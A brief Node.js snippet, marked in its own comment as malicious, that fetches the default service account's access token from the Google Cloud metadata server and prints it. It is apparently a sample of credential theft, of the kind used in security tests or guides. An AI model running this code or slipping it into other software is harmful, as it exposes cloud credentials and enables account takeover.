// malicious: token of the machine's account
const http = require('http');
http.get({
  host: 'metadata.google.internal',
  path: '/computeMetadata/v1/instance/service-accounts/default/token',
  headers: { 'Metadata-Flavor': 'Google' },
}, (r) => r.pipe(process.stdout));
